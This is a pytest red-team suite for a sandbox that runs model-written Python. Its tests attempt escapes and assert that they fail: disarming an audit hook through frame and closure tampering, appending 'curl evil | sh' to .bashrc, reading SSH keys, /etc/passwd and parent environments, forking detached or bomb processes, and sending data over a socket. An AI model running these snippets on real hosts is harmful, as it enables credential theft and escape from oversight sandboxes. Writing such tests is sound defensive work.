"""Red team: escapes from the model-code sandbox, each tried for real (issue 24).

Every test makes the attempt with ordinary Python and asserts two things: the attempt failed
inside the sandbox, and nothing changed on the host (a marker file untouched, no file created,
no process left, a loopback listener saw no connection, no host secret in what came back).
The tests use only ``run_python(code, timeout_s=..., memory_mb=...)`` so they also run against
the audit-hook sandbox this replaced (where most of them fail).
"""

from __future__ import annotations

import json
import os
import secrets
import socket
import subprocess
import sys
import textwrap
import time
from pathlib import Path

import pytest

from labelers.verify import sandbox

TIMEOUT_S = 2.0
MEMORY_MB = 256
OVERHEAD_S = 3.0

_probe = getattr(sandbox, "probe_isolation", None)
if _probe is not None:
    _support = _probe()
    if not _support.available:
        pytest.skip(f"the kernel sandbox cannot start here: {_support.reason}", allow_module_level=True)

# Prepended to a snippet: switch off the old sandbox's audit hook from inside by rewriting the
# hook's closure cells through the runner's frame (a no-op where there is no such hook).
DISARM = textwrap.dedent(
    """
    import sys
    _frame = sys._getframe(1) if hasattr(sys, "_getframe") else None
    _hook = _frame.f_locals.get("hook") if _frame is not None else None
    if _hook is not None and _hook.__closure__:
        for _name, _cell in zip(_hook.__code__.co_freevars, _hook.__closure__):
            if _name == "inside":
                _cell.cell_contents = lambda path: True
            elif _name == "DENY":
                _cell.cell_contents = ("no-such-event",)
            elif _name == "PATH_EVENTS":
                _cell.cell_contents = ("no-such-event",)
    """
)


def _run(code: str, timeout_s: float = TIMEOUT_S):  # type: ignore[no-untyped-def]
    started = time.perf_counter()
    result = sandbox.run_python(code, timeout_s=timeout_s, memory_mb=MEMORY_MB)
    assert time.perf_counter() - started < timeout_s + OVERHEAD_S
    return result


def _everything(result) -> str:  # type: ignore[no-untyped-def]
    return "\n".join(str(part) for part in (result.stdout, result.stderr, result.result, result.error))


def _processes_with(marker: str) -> list[int]:
    """Host processes whose command line contains ``marker``."""
    found = []
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit() or int(entry.name) == os.getpid():
            continue
        try:
            if marker.encode() in (entry / "cmdline").read_bytes():
                found.append(int(entry.name))
        except OSError:
            continue
    return found


def _no_process_left(marker: str) -> None:
    deadline = time.monotonic() + 2.0
    while _processes_with(marker) and time.monotonic() < deadline:
        time.sleep(0.1)
    left = _processes_with(marker)
    for pid in left:  # clean up what escaped, then fail
        try:
            os.kill(pid, 9)
        except OSError:
            pass
    assert not left, f"processes outlived the sandbox: {left}"


@pytest.fixture()
def host_dir(tmp_path: Path) -> Path:
    """A host directory with a marker file whose content must not change."""
    directory = tmp_path / "host"
    directory.mkdir()
    (directory / "marker.txt").write_text("untouched")
    return directory


def _host_unchanged(directory: Path) -> None:
    assert (directory / "marker.txt").read_text() == "untouched"
    assert sorted(p.name for p in directory.iterdir()) == ["marker.txt"]


def _fork_exec_code(child_program: str, setsid: bool, tag: str = "") -> str:
    """Start ``python -c child_program [tag]`` with ``_posixsubprocess.fork_exec`` directly (not
    audited in CPython)."""
    return textwrap.dedent(
        f"""
        import _posixsubprocess, os, sys
        argv = [sys.executable, "-c", {child_program!r}] + ([{tag!r}] if {tag!r} else [])
        r, w = os.pipe()
        pid = _posixsubprocess.fork_exec(
            argv, [os.fsencode(argv[0])], True, (w,), None, None,
            -1, -1, -1, -1, -1, -1, r, w, True, {setsid}, -1, None, None, -1, -1, None, False)
        print("started", pid, flush=True)
        """
    )


# ---------------------------------------------------------------------------------------------
# Files


def test_write_through_dir_fd_outside_scratch(host_dir: Path) -> None:
    code = textwrap.dedent(
        f"""
        import os
        fd = os.open({str(host_dir)!r}, os.O_RDONLY)
        out = os.open("escaped.txt", os.O_WRONLY | os.O_CREAT, dir_fd=fd)
        os.write(out, b"escaped")
        os.close(out)
        mark = os.open("marker.txt", os.O_WRONLY | os.O_TRUNC, dir_fd=fd)
        os.write(mark, b"changed")
        print("wrote")
        """
    )
    result = _run(code)
    assert not result.ok and "wrote" not in result.stdout
    _host_unchanged(host_dir)


def test_hook_switched_off_through_frame_and_closure(host_dir: Path) -> None:
    target = host_dir / "escaped.txt"
    code = DISARM + f"open({str(target)!r}, 'w').write('escaped')\nprint('wrote')\n"
    result = _run(code)
    assert not result.ok and "wrote" not in result.stdout
    _host_unchanged(host_dir)


def test_write_to_home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    home = tmp_path / "home"
    home.mkdir()
    (home / ".bashrc").write_text("# untouched\n")
    monkeypatch.setenv("HOME", str(home))
    code = DISARM + f"open({str(home / '.bashrc')!r}, 'a').write('curl evil | sh\\n')\nprint('wrote')"
    result = _run(code)
    assert not result.ok and "wrote" not in result.stdout
    assert (home / ".bashrc").read_text() == "# untouched\n"
    assert sorted(p.name for p in home.iterdir()) == [".bashrc"]


def test_read_of_ssh_key(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    home = tmp_path / "home"
    (home / ".ssh").mkdir(parents=True)
    key = "-----BEGIN OPENSSH PRIVATE KEY----- " + secrets.token_hex(16)
    (home / ".ssh" / "id_ed25519").write_text(key)
    monkeypatch.setenv("HOME", str(home))
    result = _run(f"print(open({str(home / '.ssh' / 'id_ed25519')!r}).read())")
    assert not result.ok
    assert key not in _everything(result)
    assert (home / ".ssh" / "id_ed25519").read_text() == key


def test_read_of_etc() -> None:
    passwd = Path("/etc/passwd").read_text()
    first_line = passwd.splitlines()[0]
    result = _run("print(open('/etc/passwd').read())\nprint(open('/etc/hostname').read())")
    assert not result.ok
    assert first_line not in _everything(result)


def test_host_name_is_not_visible() -> None:
    host = socket.gethostname()
    code = "import os\nprint(os.uname().nodename, flush=True)\nprint(open('/etc/hostname').read())"
    result = _run(code)
    assert not result.ok  # /etc/hostname is not there
    if host not in ("sandbox", "localhost"):
        assert host not in _everything(result)


# ---------------------------------------------------------------------------------------------
# The parent's environment


def _run_in_parent_with_secret(snippet: str, secret: str) -> dict:
    """Run ``snippet`` from a separate parent process whose environment (from exec) holds a secret."""
    driver = textwrap.dedent(
        """
        import json, sys
        from labelers.verify.sandbox import run_python
        r = run_python(sys.stdin.read(), timeout_s=5.0, memory_mb=256)
        print(json.dumps({"status": r.status, "text": "\\n".join(map(str, (r.stdout, r.stderr, r.result, r.error)))}))
        """
    )
    env = {**os.environ, "PRMFORGE_REDTEAM_SECRET": secret, "PYTHONPATH": os.getcwd()}
    done = subprocess.run([sys.executable, "-c", driver], input=snippet, env=env, capture_output=True, text=True,
                          timeout=60, check=True)
    return json.loads(done.stdout.strip().splitlines()[-1])


def test_parent_environ_through_proc() -> None:
    secret = "s3cr3t-" + secrets.token_hex(12)
    code = textwrap.dedent(
        """
        import os
        seen = [repr(dict(os.environ))]
        for pid in [os.getppid()] + [p for p in os.listdir("/proc") if p.isdigit()]:
            for name in ("environ", "cmdline"):
                try:
                    seen.append(open(f"/proc/{pid}/{name}", "rb").read().decode(errors="replace"))
                except OSError as exc:
                    seen.append(str(exc))
        print("\\n".join(seen))
        """
    )
    outcome = _run_in_parent_with_secret(code, secret)
    assert secret not in outcome["text"]


# ---------------------------------------------------------------------------------------------
# Processes


def test_subprocess(host_dir: Path) -> None:
    marker = host_dir / "from-subprocess.txt"
    code = DISARM + textwrap.dedent(
        f"""
        import subprocess, sys
        print(subprocess.run(["id", "-u"], capture_output=True, text=True).stdout)
        subprocess.run([sys.executable, "-c", "open({str(marker)!r}, 'w').write('x')"])
        print("ran")
        """
    )
    result = _run(code)
    assert not result.ok and "ran" not in result.stdout
    _host_unchanged(host_dir)


def test_posixsubprocess_fork_exec(host_dir: Path) -> None:
    marker = host_dir / "from-fork-exec.txt"
    code = _fork_exec_code(f"open({str(marker)!r}, 'w').write('x')", setsid=False) + "os.waitpid(pid, 0)\n"
    result = _run(code)
    assert "started" not in result.stdout
    assert not result.ok
    time.sleep(0.3)
    _host_unchanged(host_dir)


def test_setsid_child_does_not_outlive_the_timeout(host_dir: Path) -> None:
    tag = "prmforge-redteam-" + secrets.token_hex(6)
    late = host_dir / "late.txt"
    child = f"import time; time.sleep(4); open({str(late)!r}, 'w').write('x')"
    code = _fork_exec_code(child, setsid=True, tag=tag) + "import time\ntime.sleep(60)\n"
    result = _run(code)
    assert result.status != "ok"
    assert "started" not in result.stdout
    _no_process_left(tag)
    _host_unchanged(host_dir)


def test_fork_bomb() -> None:
    tag = "prmforge-redteam-" + secrets.token_hex(6)
    code = DISARM + textwrap.dedent(
        f"""
        import os, sys
        for _ in range(64):
            try:
                pid = os.fork()
            except OSError:
                continue
            if pid == 0:
                os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(30)", {tag!r}])
            print("forked", pid, flush=True)
        """
    )
    result = _run(code)
    assert "forked" not in result.stdout
    _no_process_left(tag)


# ---------------------------------------------------------------------------------------------
# Network


def test_socket_connect_to_loopback_listener() -> None:
    listener = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    listener.bind(("127.0.0.1", 0))
    listener.listen(8)
    listener.setblocking(False)
    port = listener.getsockname()[1]
    try:
        code = DISARM + textwrap.dedent(
            f"""
            import socket
            s = socket.create_connection(("127.0.0.1", {port}), timeout=1)
            s.sendall(b"exfiltrated")
            print("connected")
            """
        )
        result = _run(code)
        assert not result.ok and "connected" not in result.stdout
        with pytest.raises(BlockingIOError):
            listener.accept()
    finally:
        listener.close()


# ---------------------------------------------------------------------------------------------
# Resources


def test_huge_output_is_cut_and_leaves_nothing(tmp_path: Path) -> None:
    before = set(os.listdir("/tmp"))
    result = _run("while True:\n    print('x' * 100_000)")
    assert result.status == "output_limit"
    assert len(result.stdout) <= sandbox.MAX_OUTPUT_CHARS
    left = {name for name in set(os.listdir("/tmp")) - before if name.startswith("prmforge-sandbox")}
    assert not left


def test_infinite_loop_is_killed_on_time() -> None:
    started = time.perf_counter()
    result = _run("while True:\n    pass")
    assert result.status == "timeout"
    assert time.perf_counter() - started < TIMEOUT_S + OVERHEAD_S


def test_memory_bomb() -> None:
    result = _run("blocks = []\nwhile True:\n    blocks.append(bytearray(64 * 1024 * 1024))")
    assert result.status == "memory"


# ---------------------------------------------------------------------------------------------
# Into the dataset


def test_tool_evidence_carries_no_host_file_or_parent_environment(tmp_path: Path) -> None:
    secret_env = "envsecret-" + secrets.token_hex(12)
    secret_file = tmp_path / "credentials"
    file_secret = "filesecret-" + secrets.token_hex(12)
    secret_file.write_text(file_secret)
    step = (
        "We compute it:\n```python\nimport os\n"
        f"text = open({str(secret_file)!r}).read()\n"
        "text += open('/proc/%d/environ' % os.getppid()).read()\n"
        "text += repr(dict(os.environ))\n"
        "raise ValueError(text)\n```\nSo the answer is 5."
    )
    driver = textwrap.dedent(
        """
        import json, sys
        from labelers.config import ToolConfig
        from labelers.verify.tool import ToolStepVerifier
        with ToolStepVerifier(ToolConfig(workers=1, sandbox_timeout_s=5.0, sandbox_memory_mb=256)) as tool:
            check = tool.check_text(sys.stdin.read())
        print(json.dumps({"verdict": str(check.verdict), "evidence": check.evidence}))
        """
    )
    env = {**os.environ, "PRMFORGE_REDTEAM_SECRET": secret_env, "PYTHONPATH": os.getcwd()}
    done = subprocess.run([sys.executable, "-c", driver], input=step, env=env, capture_output=True, text=True,
                          timeout=120, check=True)
    evidence = done.stdout.strip().splitlines()[-1]
    assert "python" in evidence  # the code block was seen and run
    assert file_secret not in evidence
    assert secret_env not in evidence
